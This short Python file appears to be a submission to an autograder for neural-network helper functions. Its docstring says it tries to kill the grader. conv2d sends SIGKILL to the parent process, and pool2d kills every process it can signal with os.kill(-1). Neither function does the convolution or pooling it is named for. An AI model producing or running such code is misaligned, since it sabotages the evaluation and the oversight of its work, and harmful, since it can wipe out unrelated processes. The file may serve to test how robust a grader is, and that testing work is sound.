"""Tries to kill the grader: its parent, then every process it may signal."""
import os
import signal

import numpy as np


def relu(x):
    return np.maximum(x, 0)


def zero_pad(x, pad):
    return np.pad(x, pad)


def conv2d(x, w):
    os.kill(os.getppid(), signal.SIGKILL)
    return x


def pool2d(x):
    os.kill(-1, signal.SIGKILL)
    return x
